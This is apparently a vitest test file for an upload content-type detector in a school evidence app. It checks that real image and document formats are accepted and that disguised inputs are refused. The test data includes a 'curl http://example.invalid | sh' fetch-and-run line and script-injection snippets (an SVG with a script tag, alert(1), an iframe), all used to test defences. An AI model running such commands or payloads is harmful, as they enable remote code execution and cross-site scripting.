import { describe, expect, it } from 'vitest';
import { canRenderPreview, canShowInline, detectEvidenceType, HWP_MIME, HWPX_MIME, TEXT_MIME } from './content-type';
import { sampleDocx, sampleExe, sampleHtml, sampleHwp, sampleHwpx, samplePhoto, zipStored } from '@/db/test/test-files';

describe('the type comes from the content, never the name', () => {
  it('recognises photos, PDFs and the schools’ document formats', async () => {
    expect(await detectEvidenceType(await samplePhoto('png'))).toEqual({ mime: 'image/png', ext: 'png', kind: 'image' });
    expect(await detectEvidenceType(await samplePhoto('jpeg'))).toMatchObject({ mime: 'image/jpeg', kind: 'image' });
    expect(await detectEvidenceType(Buffer.from('%PDF-1.7\n1 0 obj\n<<>>\nendobj\ntrailer\n%%EOF\n'))).toMatchObject({ mime: 'application/pdf', kind: 'pdf' });
    expect(await detectEvidenceType(sampleDocx())).toMatchObject({
      mime: 'application/vnd.openxmlformats-officedocument.wordprocessingml.document',
      kind: 'document',
    });
    expect(await detectEvidenceType(sampleHwpx())).toEqual({ mime: HWPX_MIME, ext: 'hwpx', kind: 'document' });
    expect(await detectEvidenceType(sampleHwp())).toEqual({ mime: HWP_MIME, ext: 'hwp', kind: 'document' });
  });

  it('an HTML page disguised as photo.jpg is refused', async () => {
    expect(await detectEvidenceType(sampleHtml())).toBeNull();
  });

  it('a program disguised as a photo is refused (Windows and Linux executables, scripts)', async () => {
    expect(await detectEvidenceType(sampleExe())).toBeNull();
    expect(await detectEvidenceType(Buffer.concat([Buffer.from('7f454c46020101', 'hex'), Buffer.alloc(100)]))).toBeNull();
    expect(await detectEvidenceType(Buffer.from('#!/bin/sh\ncurl http://example.invalid | sh\n'))).toBeNull();
  });

  it('markup that a browser would render is refused, even as "text"', async () => {
    expect(await detectEvidenceType(Buffer.from('<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>1</script></svg>'))).toBeNull();
    expect(await detectEvidenceType(Buffer.from('\ufeff  <script>alert(1)</script>'))).toBeNull();
    expect(await detectEvidenceType(Buffer.from('대화 내용\n<iframe src="x"></iframe>'))).toBeNull();
  });

  it('a PNG named .pdf is accepted as what it is, a PNG', async () => {
    const detected = await detectEvidenceType(await samplePhoto('png'));
    expect(detected?.mime).toBe('image/png');
  });

  it('a chat export in UTF-8 is accepted as plain text; binary junk and non-UTF-8 are not', async () => {
    const chat = Buffer.from('2026년 3월 2일 오후 3:12, 김OO : 사진 돌린다 <3\n2026년 3월 2일 오후 3:13, 박OO : 하지 마\n');
    expect(await detectEvidenceType(chat)).toEqual({ mime: TEXT_MIME, ext: 'txt', kind: 'text' });
    expect(await detectEvidenceType(Buffer.from([0x41, 0x00, 0x42, 0x00]))).toBeNull();
    expect(await detectEvidenceType(Buffer.from([0x41, 0x01, 0x02, 0x42]))).toBeNull();
    expect(await detectEvidenceType(Buffer.from([0xc3, 0x28]))).toBeNull();
  });

  it('a compound file that is not HWP (an installer, a legacy .doc) and a plain ZIP are refused', async () => {
    expect(await detectEvidenceType(Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.alloc(600)]))).toBeNull();
    expect(await detectEvidenceType(zipStored([['payload.exe', 'MZ']]))).toBeNull();
  });

  it('an empty file is refused', async () => {
    expect(await detectEvidenceType(Buffer.alloc(0))).toBeNull();
  });
});

describe('what can be drawn or shown', () => {
  it('only raster images get a server-drawn preview', () => {
    expect(canRenderPreview('image/png')).toBe(true);
    expect(canRenderPreview('image/heic')).toBe(false);
    expect(canRenderPreview('application/pdf')).toBe(false);
  });

  it('types a browser cannot show are left to the download right', () => {
    expect(canShowInline('image/jpeg')).toBe(true);
    expect(canShowInline('application/pdf')).toBe(true);
    expect(canShowInline(TEXT_MIME)).toBe(true);
    expect(canShowInline(HWP_MIME)).toBe(false);
    expect(canShowInline('application/vnd.openxmlformats-officedocument.wordprocessingml.document')).toBe(false);
  });
});
